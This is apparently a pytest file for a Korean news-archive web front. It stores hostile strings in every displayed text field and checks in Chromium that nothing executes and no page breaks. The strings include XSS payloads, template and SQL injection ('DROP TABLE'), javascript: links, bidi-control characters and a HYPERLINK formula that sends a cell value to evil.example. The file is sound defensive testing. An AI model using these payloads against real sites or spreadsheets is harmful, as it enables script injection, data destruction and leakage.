"""Rows that mean harm, in every text column that the front shows, in a real Chromium: nothing runs, nothing breaks."""

from __future__ import annotations

import sqlite3
from collections.abc import Sequence
from pathlib import Path
from types import ModuleType
from typing import TYPE_CHECKING, Any
from urllib.parse import quote
from urllib.request import urlopen

from archive.database import Archive
from archive.front.questions import read_questions
from archive.items import Role, Segment
from archive.text.segments import lay_out, write_layout
from pipelines.article import split_page
from tests.archive.front.browser import Watch, run_front
from tests.archive.small_archive import add_article, add_outlet, insert
from tests.shared import SHARED, needs_shared

if TYPE_CHECKING:
    from playwright.sync_api import Browser

SEEN = "2025-07-27T09:05:12"
TITLES = {
    "script": "<script>window.pwned=1</script><img src=x onerror=window.pwned=1>",
    "attribute": '" autofocus onfocus="window.pwned=1" x=\'` onmouseover=\'window.pwned=1',
    "template": "{{ 7*7 }} {% raw %} ${7*7} %s %(x)s '); DROP TABLE article;-- [x](javascript:window.pwned=1)",
    "right to left": "\u202e뒤집힌\u202c \u2066숨김\u2069 \u200b\u200d\ufeff의성\u2028군",
    "one word": "빈칸없이" * 3000,
    "many words": "긴 제목 " * 20_000,
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"의성")',
}
A_MEGABYTE = "긴 제목 " * 100_000
"""Told only to the front: Chromium takes two minutes to lay out its pages, and the same words five times as often."""
MAX_OTHER_CHARS = 20_000
LINK = "javascript:window.pwned=1"


def create_hostile_archive(folder: Path, titles: list[str]) -> Path:
    """Each title in each text that a page of the front shows."""
    with Archive.open(folder, write=True) as archive, archive.transaction() as connection:
        run = {"command": "crawl", "started_at": SEEN, "finished_at": SEEN, "exit_status": 1, "report": titles[0]}
        run_id = insert(connection, "run", run)
        for number, title in enumerate(titles, start=1):
            _add_rows(connection, number, title, run_id)
    return folder


def _add_rows(connection: sqlite3.Connection, number: int, title: str, run_id: int) -> None:
    outlet = f"o{number}"
    add_outlet(connection, outlet, title)
    names = ("deck", "reporters", "byline", "dateline", "section", "copyright")
    words: dict[str, Any] = dict.fromkeys(names, title[:MAX_OTHER_CHARS])
    body = f"전북 본문 {title}"
    add_article(connection, number, title, body, outlet_id=outlet, url=LINK, revision_count=2, changed_at=SEEN, **words)
    sha256 = connection.execute("SELECT body_sha256 FROM article WHERE id = ?", (number,)).fetchone()[0]
    states = [(1, "앞선 본문", "then"), (2, body, sha256)]
    for state, text, digest in states:
        row = {"article_id": number, "number": state, "seen_at": SEEN, "change": "first" if state == 1 else "minor"}
        revision = insert(connection, "revision", {**row, "headline": title, "body": text, "body_sha256": digest})
    roles = (Role.HEADLINE, Role.PARAGRAPH, Role.RELATED, Role.RANKING, Role.ADVERTISEMENT, Role.SPEAKER)
    segments = [Segment(position=i, role=role, text=title, reason=title[:80], url=LINK) for i, role in enumerate(roles)]
    write_layout(connection, revision, lay_out(body, segments))
    of = {"article_id": number}
    insert(connection, "quote", {**of, "position": 0, "speaker": title, "title": title, "text": title})
    insert(connection, "reporter", {**of, "position": 0, "name": title, "email": title})
    seen = {**of, "title": title, "url": LINK, "first_seen_at": SEEN, "last_seen_at": SEEN}
    insert(connection, "related", {**seen, "position": 0, "target_article_id": number})
    day = {"outlet_id": outlet, "list": title, "seen_on": SEEN[:10], "rank": 1}
    insert(connection, "ranking", {**seen, **day, "target_article_id": number})
    request = {"run_id": run_id, "outlet_id": outlet, "url": LINK, "at": SEEN, "kind": "article"}
    insert(connection, "outcome", {**request, "outcome": "stored", "detail": title, "article_id": number})


LISTS = (
    "/",
    "/sosik",
    "/dashboard",
    "/export",
    "/search?q=전북",
    "/search?q=전북&order=best",
    "/sosik/article?_as=table",
)
TABLES = ("article", "outlet", "quote", "reporter", "related", "ranking", "revision", "segment", "outcome", "run")
ARTICLES = ("article/{}?_view=read", "article/{}?_view=split")
ROWS = (*ARTICLES, "article/{}?_view=history", "ranking/{}", "quote/{}", "outlet/o{}")


def list_paths(count: int, rows: Sequence[str] = ROWS) -> list[str]:
    """Every kind of page that shows text of a row; `rows` are the pages of each of them."""
    return [
        *LISTS,
        *(f"/sosik/{table}" for table in TABLES),
        *(f"/sosik/{question.id}?since=2000" for question in read_questions().questions),
        *(f"/sosik/{row.format(number)}" for number in range(1, count + 1) for row in rows),
    ]


def check_pages(browser: Browser, address: str, paths: list[str]) -> None:
    """Open every page; a script that runs, a page too wide, an error or a request elsewhere is a fault."""
    page = browser.new_page()
    watch = Watch(page, address)
    widths = [1200, 360]
    for path in paths:
        response = page.goto(address + path)
        assert response is not None
        assert response.status == 200, path
        widths.reverse()  # the width that it was laid out for first
        for width in widths:
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.documentElement.scrollWidth") <= width, path
        assert page.evaluate("window.pwned") is None, path
        assert page.locator("a[href^='javascript:']").count() == 0, path
        assert watch.faults == [], path
    page.close()


def test_hostile_rows_run_nothing_and_break_no_page(browser: Browser, tmp_path: Path) -> None:
    with run_front(create_hostile_archive(tmp_path, list(TITLES.values()))) as address:
        check_pages(browser, address, list_paths(len(TITLES)))


def test_a_megabyte_in_every_text_is_answered_on_every_page(tmp_path: Path) -> None:
    with run_front(create_hostile_archive(tmp_path, [A_MEGABYTE])) as address:
        for path in list_paths(1):
            with urlopen(address + quote(path, safe="/?=&"), timeout=60) as response:
                assert response.status == 200, path


@needs_shared
def test_pages_of_the_hostile_server_run_nothing(browser: Browser, tmp_path: Path) -> None:
    """Its news pages, split as a crawl would, and what came out of them shown."""
    pages = [route["make"]() for route in load_routes() if route["cat"] == "news" and "make" in route]
    split = [split_page(page if isinstance(page, bytes) else page.encode("utf-8", "surrogatepass")) for page in pages]
    titles = sorted({article.headline for article in split if article.headline}, key=len)
    assert len(titles) > 8
    with run_front(create_hostile_archive(tmp_path, titles)) as address:
        check_pages(browser, address, list_paths(len(titles), ARTICLES))


def load_routes() -> list[dict[str, Any]]:
    """What the hostile server answers, by its own table; its file is only read."""
    path = SHARED / "hostile.py"
    module = ModuleType("hostile")
    module.__file__ = str(path)
    exec(compile(path.read_text("utf-8"), str(path), "exec"), module.__dict__)
    return list(module.__dict__["ROUTES"].values())
